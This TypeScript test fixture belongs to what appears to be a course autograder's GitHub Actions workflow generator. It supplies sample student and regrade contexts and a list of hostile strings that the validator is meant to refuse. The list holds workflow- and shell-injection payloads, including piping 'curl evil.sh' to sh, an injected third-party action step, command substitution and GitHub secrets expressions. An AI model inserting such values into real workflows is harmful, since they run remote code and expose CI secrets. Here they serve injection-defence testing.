/** Realistic and hostile contexts for the workflow templates. */
import type { RegradeWorkflowContext, StudentWorkflowContext } from '../../grader/workflows/context.ts';

export const STUDENT_CONTEXT: StudentWorkflowContext = {
  exerciseIds: ['ch01-tensores/suma', 'ch01-tensores/producto-matricial', 'ch02-autograd/retropropagacion'],
  lang: 'es',
  starterSha: '3f2a9c1e7b4d5a6f8e0c1b2d3a4f5e6d7c8b9a01',
  graderPackage: 'github:course-org/dlgrade#0123456789abcdef0123456789abcdef01234567',
};

export const STUDENT_CONTEXT_NPM: StudentWorkflowContext = {
  exerciseIds: ['ch03-redes/perceptron'],
  lang: 'en',
  starterSha: 'ffffffffffffffffffffffffffffffffffffffff',
  graderPackage: '@course-org/dlgrade@1.4.0-rc.1',
  nodeVersion: 22,
  retentionDays: 3,
};

export const STUDENT_CONTEXT_NO_CLASSROOM: StudentWorkflowContext = {
  ...STUDENT_CONTEXT,
  classroomReporter: false,
};

export const REGRADE_CONTEXT: RegradeWorkflowContext = { roster: 'rosters/2026-spring.csv', defaultShards: 8 };
export const REGRADE_CONTEXT_SCHEDULED: RegradeWorkflowContext = { defaultShards: 2, schedule: '30 23 * * 0' };

/** Values an attacker (or a typo) could put in a context: each must be refused. */
export const HOSTILE_STRINGS: readonly string[] = [
  'ch01-a/b"\nrun: curl evil.sh | sh',
  "ch01-a/b' && curl evil.sh | sh #",
  'ch01-a/b\n  - uses: evil/action@main',
  '${{ secrets.DLGRADE_TOKEN }}',
  'ch01-a/${{ secrets.X }}',
  'ch01-a/b $(curl evil.sh)',
  'ch01-a/b`id`',
  'ch01-a/b\u2028',
  'ch01-a/b\u202e',
  '',
];
